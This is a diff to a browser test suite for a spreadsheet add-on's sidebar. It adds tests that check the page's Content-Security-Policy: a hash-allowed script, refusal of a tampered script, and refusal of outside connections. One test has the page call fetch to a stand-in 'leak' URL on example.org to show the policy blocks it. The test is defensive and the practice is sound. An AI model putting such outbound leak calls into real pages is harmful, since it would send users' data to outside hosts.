@@ -2,13 +2,15 @@
  * The BUILT sidebar (dist/sheets-addon/sidebar.html) in headless Chromium, with a fake `google.script.run` that
  * forwards every call to the built Code.js running in a Node vm against the Apps Script fake — taken through
  * create → check → go to a cell → summarise → plan, and the "someone else is building" message. Every request the
- * page makes is blocked and recorded: the sidebar must need none. Screenshots go to test-artifacts/sheets-addon/.
+ * page makes is blocked and recorded: the sidebar must need none. The page runs under its own Content-Security-Policy
+ * (the script allowed by its hash, connections to its own origin only): no violation may be reported, a tampered
+ * script must not run, and a fetch elsewhere must be refused in the page. Screenshots go to test-artifacts/sheets-addon/.
  */
 import { mkdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { chromium, type Browser, type Page } from 'playwright-core';
-import { SIDEBAR_CSP, buildSheetsAddon, type SheetsBuild } from '../../sheets-addon/build.js';
+import { buildSheetsAddon, scriptHashSource, sidebarCsp, type SheetsBuild } from '../../sheets-addon/build.js';
 import { FakeAppsScript } from './fake-apps-script.js';
 import { loadAddon, type AddonGlobals } from './load-addon.js';
 
@@ -37,6 +39,10 @@ const FAKE_GOOGLE = `
     return r;
   }
   window.google = { script: { get run() { return runner(); } } };
+  window.__cspViolations = [];
+  document.addEventListener('securitypolicyviolation', (e) => {
+    window.__cspViolations.push(e.violatedDirective + ' ' + e.blockedURI);
+  });
 })();
 `;
 
@@ -128,7 +134,8 @@ describe('the sidebar in Chromium', () => {
   it('creates a review in the spreadsheet', async () => {
     await page.getByRole('textbox', { name: /^Partnership/ }).fill('Kensington and Chelsea Partnership');
     await page.getByRole('textbox', { name: /^Respondents/ }).fill('Ann Smith\nBen Jones\nCara Patel');
-    await page.getByRole('button', { name: 'Create review' }).click();
+    // the form's own submit button (the section heading is a button of the same name that folds the form)
+    await page.getByRole('form', { name: 'Create review' }).getByRole('button', { name: 'Create review' }).click();
     const text = await waitForOutcome('Review created');
     expect(text).toContain('Review created for Kensington and Chelsea Partnership (2026/27): 3 respondents. Type the entries on the Responses tab, then choose Check entries.');
     const names = fake.spreadsheet.getSheets().map((s) => s._name);
@@ -171,7 +178,7 @@ describe('the sidebar in Chromium', () => {
   it('drafts the improvement plan', async () => {
     await page.getByRole('button', { name: 'Draft improvement plan' }).click();
     const text = await waitForOutcome('Improvement plan drafted');
-    expect(text).toContain('Improvement plan drafted: 5 actions. Fill in the key contact, lead agency and dates on the Improvement Plan tab.');
+    expect(text).toContain('Improvement plan drafted: 5 actions. Check each action, then fill in the key contact and lead agency on the Improvement Plan tab.');
     expect(fake.spreadsheet._sheet('Improvement Plan')._text(5, 1)).toMatch(/^item:/);
     await shot('05-plan');
   });
@@ -201,7 +208,74 @@ describe('the sidebar in Chromium', () => {
     expect(/\b(src|href)\s*=/i.test(markup)).toBe(false);
     expect(/@import|url\(/i.test(markup)).toBe(false);
     expect(markup.match(/<script>/g)).toHaveLength(1);
-    expect(markup).toContain(`<meta http-equiv="Content-Security-Policy" content="${SIDEBAR_CSP}">`);
     expect(/\beval\(/.test(html)).toBe(false);
+  });
+
+  it('lets exactly its one inline script run: the policy, first in <head>, lists that script’s SHA-256 and no other script', () => {
+    const html = readFileSync(built.sidebarHtml, 'utf8');
+    const script = /<script>([\s\S]*?)<\/script>/.exec(html)![1]!;
+    const meta = `<meta http-equiv="Content-Security-Policy" content="${sidebarCsp(script)}">`;
+    expect(html).toContain(meta);
+    // before anything else in <head> but the character set, so it governs every element after it
+    expect(html.indexOf(meta)).toBeLessThan(html.indexOf('<meta name="viewport"'));
+    expect(html.indexOf(meta)).toBeLessThan(html.indexOf('<style>'));
+    const directives = new Map(sidebarCsp(script).split('; ').map((d) => [d.split(' ')[0]!, d.split(' ').slice(1)]));
+    expect(directives.get('script-src')).toEqual([scriptHashSource(script)]);
+    expect(directives.get('connect-src')).toEqual(["'self'"]);
+    expect(directives.get('style-src')).toEqual(["'unsafe-inline'"]);
+    expect(directives.get('img-src')).toEqual(['data:']);
+    for (const d of ['font-src', 'media-src', 'object-src', 'frame-src', 'child-src', 'worker-src', 'manifest-src', 'base-uri', 'form-action']) {
+      expect(directives.get(d), d).toEqual(["'none'"]);
+    }
+    expect(sidebarCsp(script)).not.toMatch(/unsafe-eval|https?:|\*/);
+  });
+
+  it('hashes the script as the browser reads it (SHA-256, base64), so a changed script no longer runs', () => {
+    // the SHA-256 of "alert(1)" in base64 (the CSP specification's own example)
+    expect(scriptHashSource('alert(1)')).toBe("'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='");
+    // the HTML parser reads CR LF as LF, so both spellings run under the same hash
+    expect(scriptHashSource('a()\r\nb()')).toBe(scriptHashSource('a()\nb()'));
+    expect(scriptHashSource('alert(2)')).not.toBe(scriptHashSource('alert(1)'));
+  });
+
+  it('refuses a script whose text no longer matches the hash: a tampered page does not run', async () => {
+    const html = readFileSync(built.sidebarHtml, 'utf8');
+    // one character of the script changed (a space added at its start), the policy left as built
+    const tampered = html.replace('<script>', '<script> ');
+    const other = await browser.newPage();
+    try {
+      const seen: string[] = [];
+      await other.route('**/*', (route) =>
+        route.request().url() === SIDEBAR_URL ? route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body: tampered }) : route.abort(),
+      );
+      await other.addInitScript(FAKE_GOOGLE);
+      other.on('console', (m) => seen.push(m.text()));
+      await other.goto(SIDEBAR_URL);
+      await expect.poll(() => other.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations.join('\n'))).toMatch(/^script-src/m);
+      expect(await other.evaluate(() => document.getElementById('root')?.childElementCount)).toBe(0);
+      expect(seen.some((t) => /Content Security Policy/i.test(t))).toBe(true);
+    } finally {
+      await other.close();
+    }
+  });
+
+  it('ran under that policy: the page reported no Content-Security-Policy violation', async () => {
+    const violations = await page.evaluate(() => (window as unknown as { __cspViolations?: string[] }).__cspViolations ?? null);
+    expect(violations).toEqual([]);
+  });
+
+  it('refuses, through that policy, a connection the page itself tries to make to another address', async () => {
+    const before = blocked.length;
+    const outcome = await page.evaluate(() =>
+      fetch('https://example.org/leak?x=1').then(
+        () => 'sent',
+        () => 'refused',
+      ),
+    );
+    expect(outcome).toBe('refused');
+    // stopped inside the page by connect-src 'self': it never reached the network (where the test would block it)
+    expect(blocked.length).toBe(before);
+    const violations = await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);
+    expect(violations).toEqual(['connect-src https://example.org/leak?x=1']);
   });
 });
